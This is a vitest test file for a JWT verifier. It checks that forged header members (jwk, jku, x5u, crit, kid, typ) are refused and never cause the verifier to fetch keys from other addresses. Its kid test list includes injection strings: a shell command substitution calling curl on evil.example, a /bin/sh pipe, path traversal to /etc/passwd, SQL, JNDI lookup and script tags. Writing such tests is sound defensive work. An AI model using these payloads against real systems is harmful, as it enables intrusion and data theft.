import { createMockIssuer } from '@telnyx-auth/mock-issuer'
import { describe, expect, it } from 'vitest'
import {
  encode,
  expectRefusal,
  ForgedIssuer,
  forge,
  goodClaims,
  goodHeader,
  goodToken,
  ISSUER,
  JWKS_URL,
  METADATA_URL,
  makeKey,
  makeVerifier,
  privateJwk,
  TestClock,
  withMembers,
} from '../support/forge.js'

/** Attacks 17–21: what a header asks for. */

const key = makeKey('RS256')
const ec = makeKey('ES256')
const attacker = makeKey('RS256', 'attacker')

describe('attack 17, J8: keys and addresses of the token itself', () => {
  const evil = 'https://evil.example/jwks'
  const chain = ['MIIBszCCAVmgAwIBAgIUQ0ZvcmdlZCBjZXJ0aWZpY2F0ZQ==']
  const headers: readonly (readonly [string, object])[] = [
    ['jwk', { jwk: attacker.jwk }],
    ['jwk with its private half', { jwk: privateJwk(attacker) }],
    ['jwk that is symmetric', { jwk: { kty: 'oct', k: encode('secret') } }],
    ['jku', { jku: evil }],
    ['jku of the issuer', { jku: `${ISSUER}/uploads/jwks` }],
    ['jku to this machine', { jku: 'http://127.0.0.1:1/' }],
    ['jku of a file', { jku: 'file:///etc/passwd' }],
    ['x5u', { x5u: 'https://evil.example/cert.pem' }],
    ['x5c', { x5c: chain }],
    ['x5t', { x5t: 'AAAA', 'x5t#S256': 'AAAA' }],
    ['all', { jwk: attacker.jwk, jku: evil, x5u: evil, x5c: chain }],
    ['all of the wrong type', { jwk: 1, jku: {}, x5u: [], x5c: null }],
    ['url and iss, as in ACME', { url: evil, iss: 'https://evil.example' }],
  ]

  it.each(headers)('%s is never used, and nothing is asked because of it', async (_, members) => {
    const issuer = new ForgedIssuer(key)
    const verifier = makeVerifier(issuer)
    // The control: these members change nothing about a token of the issuer's.
    await expect(verifier.verify(goodToken(key, {}, members))).resolves.toBeDefined()

    const urls = [METADATA_URL, JWKS_URL]
    expect(issuer.urls).toEqual(urls)
    const asIssuers = forge(goodHeader(key, members), goodClaims(), attacker)
    await expectRefusal(verifier.verify(asIssuers), 'R', 'ERR_SIGNATURE_INVALID', [asIssuers])
    expect(issuer.urls).toEqual(urls)

    // These two may have the issuer's own keys fetched again, from where they always are.
    const withoutKid = forge(goodHeader(key, { ...members, kid: undefined }), goodClaims(), attacker)
    await expectRefusal(verifier.verify(withoutKid), 'R', 'ERR_SIGNATURE_INVALID', [withoutKid])
    const own = forge(goodHeader(attacker, members), goodClaims(), attacker)
    await expectRefusal(verifier.verify(own), 'R', 'ERR_KEY_NOT_FOUND', [own])
    expect(new Set(issuer.urls)).toEqual(new Set(urls))
  })
})

describe('attack 18, J7: crit', () => {
  const verifier = makeVerifier(new ForgedIssuer(key))
  const values: unknown[] = [
    [],
    ['exp'],
    ['b64'],
    ['alg'],
    ['crit'],
    ['unknown'],
    ['kid', 'kid'],
    [''],
    [null],
    [1],
    [['exp']],
    'exp',
    '',
    {},
    { exp: true },
    null,
    0,
    true,
    false,
    ['http://example.com/UNDEFINED'],
    ['__proto__'],
  ]

  it('accepts the same without it', async () => {
    await expect(verifier.verify(goodToken(key))).resolves.toBeDefined()
  })

  it.each(values.map((crit) => ({ crit })))('refuses $crit', async ({ crit }) => {
    const members = { crit, exp: 1, b64: undefined, unknown: true, 'http://example.com/UNDEFINED': true }
    await expectRefusal(verifier.verify(goodToken(key, {}, members)), 'R', 'ERR_TOKEN_MALFORMED')
  })

  it('refuses a repeated one', async () => {
    const token = forge(withMembers(goodHeader(key), '"crit":["exp"],"crit":["exp"]'), goodClaims(), key)
    await expectRefusal(verifier.verify(token), 'R', 'ERR_TOKEN_MALFORMED')
  })

  it.each([
    ['b64 false', { b64: false }],
    ['b64 false, critical', { b64: false, crit: ['b64'] }],
    ['b64 null', { b64: null }],
    ['b64 "false"', { b64: 'false' }],
    ['b64 0', { b64: 0 }],
  ])('refuses %s', async (_, members) => {
    await expectRefusal(verifier.verify(goodToken(key, {}, members)), 'R', 'ERR_TOKEN_MALFORMED')
  })

  it('refuses an unencoded payload (RFC 7797)', async () => {
    const raw = JSON.stringify(goodClaims()).replaceAll('.', '')
    const header = encode(goodHeader(key, { b64: false, crit: ['b64'] }))
    const [, , signature] = forge(goodHeader(key), raw, key).split('.')
    await expectRefusal(verifier.verify(`${header}.${raw}.${signature}`), 'R', 'ERR_TOKEN_MALFORMED')
  })
})

describe('attack 19, J8: kid', () => {
  it.each([
    ['an array', [key.kid]],
    ['an array of two', [key.kid, 'other']],
    ['a number', 5],
    ['null', null],
    ['true', true],
    ['an object', { toString: key.kid }],
    ['an object with the id', { kid: key.kid }],
  ])('refuses %s, without a request', async (_, kid: unknown) => {
    const issuer = new ForgedIssuer(key)
    const token = goodToken(key, {}, { kid })
    await expectRefusal(makeVerifier(issuer).verify(token), 'R', 'ERR_TOKEN_MALFORMED', [token])
    expect(issuer.urls).toEqual([])
  })

  const unreasonable: readonly (readonly [string, string])[] = [
    ['nothing', ''],
    ['10 KB', 'k'.repeat(10_000)],
    ['257 characters', 'k'.repeat(257)],
    ['a path', '../../../../etc/passwd'],
    ['a path from Windows', '..\\..\\windows\\system32'],
    ['a path with a NUL', 'key\0.pem'],
    ['SQL', "' OR 1=1 --"],
    ['SQL with a union', "x' UNION SELECT 'key"],
    ['shell', '$(curl evil.example)'],
    ['shell with a pipe', '|/bin/sh -c id'],
    ['shell in backticks', '`id`'],
    ['a template', '{{7*7}}'],
    ['LDAP', '*)(uid=*'],
    ['markup', '<script>alert(1)</script>'],
    ['a newline', `${key.kid}\n`],
    ['CR LF', 'a\r\nSet-Cookie: x=y'],
    ['quotes', '"'],
    ['a blank', ' '],
    ['a format', '%s%n%x'],
    ['outside ASCII', 'ключ'],
    ['half of a surrogate pair', '\ud800'],
    ['JNDI', '\x24{jndi:ldap://evil.example/a}'],
  ]

  it.each(unreasonable)('refuses %s, and asks for nothing because of it', async (_, kid) => {
    const issuer = new ForgedIssuer(key)
    const verifier = makeVerifier(issuer)
    await verifier.verify(goodToken(key))
    const token = goodToken(key, {}, { kid })
    await expectRefusal(verifier.verify(token), 'R', 'ERR_KEY_NOT_FOUND', [token, kid])
    expect(issuer.urls).toEqual([METADATA_URL, JWKS_URL])
  })

  const addresses: readonly (readonly [string, string])[] = [
    ['a URL', 'https://evil.example/key'],
    ['a file', 'file:///etc/passwd'],
    ['an absolute path', '/dev/null'],
  ]
  it.each([...unreasonable, ...addresses])('never makes %s part of an address', async (_, kid) => {
    const issuer = new ForgedIssuer(key)
    const token = goodToken(key, {}, { kid })
    await expectRefusal(makeVerifier(issuer).verify(token), 'R', 'ERR_KEY_NOT_FOUND', [token])
    expect(new Set(issuer.urls)).toEqual(new Set([METADATA_URL, JWKS_URL]))
  })

  const legal: readonly (readonly [string, string])[] = [
    ['an e-mail address', 'signing+2026@example.com'],
    ['base64', 'a+b/c=='],
    ['a URL', 'https://issuer.example/keys/1#a?b=c'],
    ['__proto__', '__proto__'],
    ['constructor', 'constructor'],
  ]
  it.each([...unreasonable.filter(([what]) => what !== '10 KB'), ...legal])(
    'A: %s, when it is the id of a key of the issuer',
    async (_, kid) => {
      const odd = { ...key, kid, jwk: { ...key.jwk, kid } }
      await expect(makeVerifier(new ForgedIssuer(ec, odd)).verify(goodToken(odd))).resolves.toBeDefined()
    },
  )

  it.each([
    key.kid.toUpperCase(),
    `${key.kid} `,
    ` ${key.kid}`,
    key.kid.slice(0, -1),
    `${key.kid}x`,
    `${key.kid}\0`,
  ])('compares exactly: %j', async (kid) => {
    const verifier = makeVerifier(new ForgedIssuer(key))
    await expectRefusal(verifier.verify(goodToken(key, {}, { kid })), 'R', 'ERR_KEY_NOT_FOUND')
  })
})

describe('attack 20: no kid', () => {
  const withoutKid = { kid: undefined }

  it('A with one key', async () => {
    await expect(
      makeVerifier(new ForgedIssuer(key)).verify(goodToken(key, {}, withoutKid)),
    ).resolves.toBeDefined()
  })

  it('A with several keys of the algorithm, signed by any of them', async () => {
    const keys = [makeKey('RS256', 'a'), makeKey('RS256', 'b'), ec, key]
    const verifier = makeVerifier(new ForgedIssuer(...keys))
    for (const each of keys)
      await expect(verifier.verify(goodToken(each, {}, withoutKid))).resolves.toBeDefined()
  })

  it('A with keys that have no id either', async () => {
    const issuer = new ForgedIssuer()
    issuer.publish(
      { ...ec.jwk, kid: undefined },
      { ...attacker.jwk, kid: undefined },
      { ...key.jwk, kid: undefined },
    )
    const verifier = makeVerifier(issuer)
    await expect(verifier.verify(goodToken(key, {}, withoutKid))).resolves.toBeDefined()
    // An id that is given must be there.
    await expectRefusal(verifier.verify(goodToken(key)), 'R', 'ERR_KEY_NOT_FOUND')
  })

  it('R when none of them verifies it, or none is for the algorithm', async () => {
    const verifier = makeVerifier(new ForgedIssuer(key, ec))
    await expectRefusal(verifier.verify(goodToken(attacker, {}, withoutKid)), 'R', 'ERR_SIGNATURE_INVALID')
    await expectRefusal(
      verifier.verify(goodToken(makeKey('EdDSA'), {}, withoutKid)),
      'R',
      'ERR_KEY_NOT_FOUND',
    )
  })

  it('A after a rotation in quiet times (attack 39): the new key of an issuer that sends no kid', async () => {
    const clock = new TestClock()
    const next = makeKey('RS256', 'next')
    const issuer = new ForgedIssuer(key)
    const verifier = makeVerifier(issuer, {}, clock)
    await expect(verifier.verify(goodToken(key, {}, withoutKid))).resolves.toBeDefined()
    issuer.publish(next.jwk)
    clock.advance(60)
    await expect(verifier.verify(goodToken(next, {}, withoutKid))).resolves.toBeDefined()
  })
})

describe('attack 21, J2: typ', () => {
  const verifier = makeVerifier(new ForgedIssuer(key))
  const strict = makeVerifier(new ForgedIssuer(key), { profile: 'rfc9068' })

  it.each([
    undefined,
    'JWT',
    'jwt',
    'at+jwt',
    'AT+JWT',
    'At+Jwt',
    'application/at+jwt',
    'APPLICATION/AT+JWT',
    'application/jwt',
  ])('A: %s', async (typ) => {
    await expect(verifier.verify(goodToken(key, {}, { typ }))).resolves.toBeDefined()
  })

  it.each(['at+jwt', 'AT+JWT', 'application/at+jwt', 'Application/At+JWT'])(
    'A in the strict profile: %s',
    async (typ) => {
      await expect(strict.verify(goodToken(key, {}, { typ }))).resolves.toBeDefined()
    },
  )

  const others: unknown[] = [
    'dpop+jwt',
    'DPoP+JWT',
    'application/dpop+jwt',
    'token-introspection+jwt',
    'logout+jwt',
    'secevent+jwt',
    'id_token',
    'id+jwt',
    'entity-statement+jwt',
    'oauth-authz-req+jwt',
    'rt+jwt',
    'vc+sd-jwt',
    'client-authentication+jwt',
    'JOSE',
    'JOSE+JSON',
    'JWE',
    '',
    ' ',
    'at+jwt ',
    ' at+jwt',
    'at+jwt; charset=utf-8',
    'at jwt',
    'at%2Bjwt',
    'at+jwt\0',
    'application/application/at+jwt',
    'application/',
    'text/at+jwt',
    '/at+jwt',
    'at+jwt,JWT',
    null,
    0,
    true,
    [],
    ['at+jwt'],
    { typ: 'at+jwt' },
    'constructor',
    '__proto__',
  ]
  it.each(others.map((typ) => ({ typ })))('R: $typ', async ({ typ }) => {
    await expectRefusal(verifier.verify(goodToken(key, {}, { typ })), 'R', 'ERR_TYP_INVALID')
    await expectRefusal(strict.verify(goodToken(key, {}, { typ })), 'R', 'ERR_TYP_INVALID')
  })

  it.each([undefined, 'JWT', 'jwt', 'application/jwt'])('R in the strict profile: %s', async (typ) => {
    await expectRefusal(strict.verify(goodToken(key, {}, { typ })), 'R', 'ERR_TYP_INVALID')
  })

  it('A and R with tokens of the mock issuer', async () => {
    const clock = new TestClock()
    const mock = await createMockIssuer({ now: () => clock.now() * 1000 })
    const ofMock = makeVerifier(mock, { issuer: mock.issuer }, clock)
    await expect(ofMock.verify(await mock.issueToken({ header: { typ: undefined } }))).resolves.toBeDefined()
    const token = await mock.issueToken({ header: { typ: 'logout+jwt' } })
    await expectRefusal(ofMock.verify(token), 'R', 'ERR_TYP_INVALID', [token])
  })
})
